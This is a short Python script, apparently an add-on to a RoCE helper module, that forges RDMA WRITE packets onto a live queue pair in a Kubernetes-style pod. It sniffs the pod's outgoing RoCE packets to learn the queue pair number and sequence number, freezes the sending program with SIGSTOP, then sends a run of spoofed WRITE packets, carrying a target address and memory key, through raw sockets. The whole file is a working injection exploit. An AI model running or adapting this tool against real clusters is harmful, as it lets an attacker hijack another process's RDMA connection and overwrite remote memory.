"""Forges a WRITE on a live queue pair, through raw sockets: run in a pod, appended to ``roce.py``.

``sniff PROGRAM SOURCE DESTINATION``: stop PROGRAM in this pod, and print the queue pair and the
last sequence number of the packets that it has sent to DESTINATION. ``write SOURCE DESTINATION
ADDRESS KEY TEXT QPN PSN``: send WRITEs with this and the following sequence numbers, and print how
many.
"""
# ruff: noqa: F821 # names from roce.py

import os
import signal
import socket
import struct
import sys
from pathlib import Path

SILENT_S = 1.0
BEHIND = 80  # more packets than a READ of 65536 bytes takes
SOURCE_PORT = 0xD000


def sniff(program, source, destination):
    """Print the header fields of this pod's own packets."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    found = None
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind(("eth0", 0))
        link.settimeout(60)
        while True:
            try:
                frame = link.recv(256)
            except TimeoutError:
                break
            if len(frame) < 54 or frame[23] != socket.IPPROTO_UDP or frame[26:34] != ends:
                continue
            if frame[36:38] != struct.pack("!H", PORT) or frame[42] > READ_REQUEST:
                continue
            if found is None:
                stop(program)
                link.settimeout(SILENT_S)
            found = [number & 0xFFFFFF for number in struct.unpack_from("!II", frame, 46)]
    assert found is not None, "nothing was sent"
    print(*found)


def stop(program):
    """Stop all processes of a program (SIGSTOP)."""
    for process in Path("/proc").glob("[0-9]*"):
        if (process / "comm").read_text().strip() == program:
            os.kill(int(process.name), signal.SIGSTOP)


def write(source, destination, address, key, text, qpn, psn):
    """Send WRITEs that look like those of the HCA."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for behind in range(BEHIND):
            payload = text.encode()
            headers = reth(int(address, 0), int(key, 0), len(payload))
            number = (int(psn) + behind) % PSNS
            packet = Packet(WRITE_ONLY, int(qpn), number, headers, payload)
            data = packet.seal(source, destination, SOURCE_PORT)
            ends = socket.inet_aton(source), socket.inet_aton(destination)
            length = 20 + 8 + len(data)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0x4000, 64, 17, 0, *ends)
            udp = struct.pack("!HHHH", SOURCE_PORT, PORT, 8 + len(data), 0)
            raw.sendto(ip + udp + data, (destination, 0))
    print(BEHIND)


if __name__ == "__main__":
    {"sniff": sniff, "write": write}[sys.argv[1]](*sys.argv[2:])
